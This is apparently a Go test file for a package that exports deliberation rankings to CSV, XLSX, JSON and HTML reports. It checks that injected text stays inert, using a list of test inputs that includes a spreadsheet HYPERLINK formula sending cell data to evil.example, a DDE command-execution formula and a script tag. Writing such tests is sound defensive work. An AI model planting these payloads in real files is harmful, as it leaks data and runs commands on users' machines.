package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "write testdata anew")

// nasty are texts that a spreadsheet, XML or HTML could take for something
// else.
var nasty = []string{
	"Plant trees", `=HYPERLINK("http://evil.example?x="&A1,"click")`, "+1", "-1", "@SUM(A1)", "＝1+1", "\t=1", "\r\n=1", "  =1",
	"\u200b=1", "'=1", "''quoted", "'plain", "a,b;c\t\"d\"\nnew line", "<script>alert(1)</script>", "_x0041_", "_x005F_x0041_x0042_", "&amp;", "\x00\x1f",
	"Больше скамеек", "=cmd|' /C calc'!A0", "", " ", "12", "1e5", "true", "\ufffe", "emoji 🌳",
}

func sampleRanking() Ranking {
	r := Ranking{
		Topic: "=Parks & <gardens>", Question: "What should change?", Run: 3, InputSeq: 120, Time: 1_760_000_000_000, Digest: "ab12",
		Seed: "s", Ballots: 40, Votes: 500, Own: true, Groups: []Group{{1, 22}, {2, 15}}, Resamples: 200,
		Trials: []Trial{{2, 15, .5, .9, true}, {3, 4, .4, .3, false}},
	}
	for i, text := range nasty {
		n := len(nasty) - i // rows arrive worst first
		r.Rows = append(r.Rows, Row{
			Item: strconv.Itoa(100 + i), Kind: "idea", Text: text, AuthorNote: "note", Cluster: strconv.Itoa(i / 3), ClusterTitle: nasty[len(nasty)-1-i],
			Ideas: i, Link: "https://veche.example/t/1#" + strconv.Itoa(i), Excluded: n == len(nasty),
			Agree: i, Disagree: 2, Pass: 1, Seen: i + 3, AgreeShare: float64(i) / float64(i+3), WilsonLow: .1 / float64(n), WilsonHigh: .9,
			GroupConsensus: .25, WorstGroup: 1. / 3, Bridging: float64(i)/10 - .5, RankSupport: n, RankConsensus: i + 1, RankBridging: n,
			Rank: n, AgreeOfDecided: .75, AgreeOfAll: .5 / float64(n), Unclear: i, RankProportional: i + 1, RankDistinct: n,
			Groups:    []GroupCount{{1, i, 1, 0}, {2, 0, 1, 1}},
			Stability: &Stability{Support: Spread{1, n, .5}, Consensus: Spread{1, 2, .125}, Bridging: Spread{2, 3, 0}},
		})
	}
	return r
}

// readTable turns the columns of CSV or XLSX back into rows.
func readTable(t *testing.T, lines [][]string, text func(string) string) (rows []Row) {
	t.Helper()
	for _, line := range lines[1:] {
		at := map[string]string{}
		for i, name := range lines[0] {
			if i < len(line) {
				at[name] = line[i]
			}
		}
		whole := func(name string) int {
			n, err := strconv.Atoi(at[name])
			if err != nil {
				t.Fatalf("column %s: %v", name, err)
			}
			return n
		}
		real := func(name string) float64 {
			x, err := strconv.ParseFloat(at[name], 64)
			if err != nil {
				t.Fatalf("column %s: %v", name, err)
			}
			return x
		}
		group := func(n int) GroupCount {
			p := "group_" + strconv.Itoa(n) + "_"
			return GroupCount{n, whole(p + "agree"), whole(p + "disagree"), whole(p + "pass")}
		}
		spread := func(name string) Spread {
			p := "rank_" + name + "_"
			return Spread{whole(p + "low"), whole(p + "high"), real(p + "top10")}
		}
		rows = append(rows, Row{
			Item: text(at["item"]), Kind: text(at["kind"]), Text: text(at["text"]), AuthorNote: text(at["author_note"]),
			Cluster: text(at["cluster"]), ClusterTitle: text(at["cluster_title"]), Ideas: whole("ideas"), Link: text(at["link"]),
			Excluded: at["excluded"] == "yes", Agree: whole("agree"), Disagree: whole("disagree"), Pass: whole("pass"), Seen: whole("seen"),
			AgreeShare: real("agree_share"), WilsonLow: real("wilson_low"), WilsonHigh: real("wilson_high"),
			GroupConsensus: real("group_consensus"), WorstGroup: real("worst_group"), Bridging: real("bridging"),
			RankSupport: whole("rank_support"), RankConsensus: whole("rank_consensus"), RankBridging: whole("rank_bridging"),
			Rank: whole("rank"), AgreeOfDecided: real("agree_of_decided"), AgreeOfAll: real("agree_of_all"), Unclear: whole("unclear"),
			RankProportional: whole("rank_proportional"), RankDistinct: whole("rank_distinct"),
			Groups:    []GroupCount{group(1), group(2)},
			Stability: &Stability{spread("support"), spread("consensus"), spread("bridging")},
		})
	}
	return rows
}

func TestCSVReadsBack(t *testing.T) {
	r := sampleRanking()
	for _, mark := range []bool{false, true} {
		r.ByteOrderMark = mark
		var b bytes.Buffer
		if err := RankingCSV(&b, r); err != nil {
			t.Fatal(err)
		}
		plain, marked := bytes.CutPrefix(b.Bytes(), []byte(byteOrderMark))
		if marked != mark {
			t.Errorf("byte order mark %v, want %v", marked, mark)
		}
		lines, err := csv.NewReader(bytes.NewReader(plain)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range lines {
			for i, field := range line {
				if _, err := strconv.ParseFloat(field, 64); err != nil && risky(field) {
					t.Errorf("column %s: %q could run as a formula", lines[0][i], field)
				}
			}
		}
		want := byRank(r.Rows)
		for i := range want {
			want[i].Text = oneBreak.Replace(want[i].Text)
			want[i].ClusterTitle = oneBreak.Replace(want[i].ClusterTitle)
		}
		if diff := cmp.Diff(want, readTable(t, lines, Unescape)); diff != "" {
			t.Errorf("read back (-want +got):\n%s", diff)
		}
	}
}

func TestXLSXReadsBack(t *testing.T) {
	r := sampleRanking()
	var b bytes.Buffer
	if err := RankingXLSX(&b, r); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	}()
	lines, err := f.GetRows(rankingSheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	want := byRank(r.Rows)
	for i := range want {
		if want[i].Text, err = xmlText(want[i].Text); err != nil {
			t.Fatal(err)
		}
		if want[i].ClusterTitle, err = xmlText(want[i].ClusterTitle); err != nil {
			t.Fatal(err)
		}
	}
	if diff := cmp.Diff(want, readTable(t, lines, func(s string) string { return s }), cmpopts.EquateApprox(1e-13, 1e-15)); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
	for n := range lines {
		for i := range lines[n] {
			at, err := excelize.CoordinatesToCellName(i+1, n+1)
			if err != nil {
				t.Fatal(err)
			}
			if formula, err := f.GetCellFormula(rankingSheet, at); err != nil || formula != "" {
				t.Errorf("cell %s holds the formula %q (%v)", at, formula, err)
			}
		}
	}
	about, err := f.GetRows(aboutSheet)
	if err != nil || len(about) < 10 || about[0][1] != r.Topic {
		t.Errorf("about: %v, %v", about, err)
	}
	if linked, to, err := f.GetCellHyperLink(rankingSheet, lastCell(t, lines[0])); err != nil || !linked || !strings.HasPrefix(to, "https://veche.example/") {
		t.Errorf("link %v %q %v", linked, to, err)
	}
}

func lastCell(t *testing.T, header []string) string {
	at, err := excelize.CoordinatesToCellName(len(header), 2)
	if err != nil {
		t.Fatal(err)
	}
	return at
}

func TestXLSXRefusesWhatACellCannotHold(t *testing.T) {
	r := Ranking{Rows: []Row{{Item: "7", Text: strings.Repeat("я", mostCellUnits+1)}}}
	err := RankingXLSX(&bytes.Buffer{}, r)
	if err == nil || !strings.Contains(err.Error(), "item 7, column text") {
		t.Errorf("got %v, want an error that names the item and the column", err)
	}
}

func TestJSONReadsBack(t *testing.T) {
	r := sampleRanking()
	r.Rows[0].Item, r.Rows[1].Item, r.Rows[2].Item, r.Rows[3].Cluster = "idea-7", "007", "99999999999999999999", ""
	var b bytes.Buffer
	if err := RankingJSON(&b, r); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"item": "idea-7"`, `"item": "007"`, `"item": "99999999999999999999"`, `"item": 104`, `"cluster": 2`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("no %s in %s", want, &b)
		}
	}
	var got Ranking
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want := r
	want.Schema, want.Rows, want.Methods = SchemaVersion, byRank(r.Rows), wordsOf("en").methods(&r)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestReport(t *testing.T) {
	for _, language := range []string{"en", "ru"} {
		r := sampleRanking()
		r.Language = language
		r.Rows = r.Rows[:6]
		r.Notes = []string{"A note <b>"}
		var b bytes.Buffer
		if err := RankingReport(&b, r); err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", "report."+language+".html")
		if *update {
			if err := os.WriteFile(golden, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), b.String()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", golden, diff)
		}
	}
}

func TestReportKeepsTextsAsText(t *testing.T) {
	var b bytes.Buffer
	if err := RankingReport(&b, sampleRanking()); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, bad := range []string{"<script", "src=", "@import", "url(", "ZgotmplZ"} {
		if strings.Contains(page, bad) {
			t.Errorf("the report holds %q", bad)
		}
	}
	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") || !utf8.ValidString(page) {
		t.Error("a text is missing from the report or broken")
	}
	var empty bytes.Buffer
	if err := RankingReport(&empty, Ranking{}); err != nil || !strings.Contains(empty.String(), "</html>") {
		t.Errorf("an empty ranking: %v", err)
	}
}

func TestLanguagesHaveTheSameWords(t *testing.T) {
	for name, w := range languages {
		for key := range languages["en"] {
			if w[key] == "" {
				t.Errorf("%s lacks %q", name, key)
			}
		}
		for key := range w {
			if languages["en"][key] == "" {
				t.Errorf("en lacks %q of %s", key, name)
			}
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range nasty {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		escaped := Escape(s)
		if Unescape(escaped) != s {
			t.Fatalf("%q escaped is %q, and back %q", s, escaped, Unescape(escaped))
		}
		if risky(escaped) {
			t.Fatalf("%q escaped is %q, which could run", s, escaped)
		}
		if !utf8.ValidString(s) {
			return // texts are valid from the door on
		}
		var b bytes.Buffer
		r := Ranking{Rows: []Row{{Text: s, ClusterTitle: s}}}
		if err := RankingCSV(&b, r); err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(lines) != 2 {
			t.Fatalf("%q makes a broken file: %v, %d lines", s, err, len(lines))
		}
		if got, want := Unescape(lines[1][6]), oneBreak.Replace(s); got != want {
			t.Fatalf("CSV gives %q for %q", got, want)
		}
	})
}

func FuzzSheet(f *testing.F) {
	for _, s := range nasty {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		want, err := xmlText(s)
		if err != nil || !utf8.ValidString(s) {
			return
		}
		var b bytes.Buffer
		if err := RankingXLSX(&b, Ranking{Rows: []Row{{Text: s}}}); err != nil {
			t.Fatal(err)
		}
		book, err := excelize.OpenReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		got, err := book.GetCellValue(rankingSheet, "G2")
		if err != nil || got != want {
			t.Fatalf("%q is read back as %q (%v), want %q", s, got, err, want)
		}
		if formula, err := book.GetCellFormula(rankingSheet, "G2"); err != nil || formula != "" {
			t.Fatalf("%q became the formula %q (%v)", s, formula, err)
		}
		if err := book.Close(); err != nil {
			t.Fatal(err)
		}
	})
}

// A row that is read is written and read as the same again.
func FuzzRow(f *testing.F) {
	f.Add([]byte(`{"item":7,"text":"A bench","agree":3}`))
	f.Add([]byte(`{"item":"=1+1","cluster":9007199254740993}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		var row, again Row
		if json.Unmarshal(b, &row) != nil {
			return
		}
		written, err := json.Marshal(row)
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(written, &again); err != nil || !cmp.Equal(row, again) {
			t.Fatalf("%s is read as %+v, was %+v: %v", written, again, row, err)
		}
	})
}
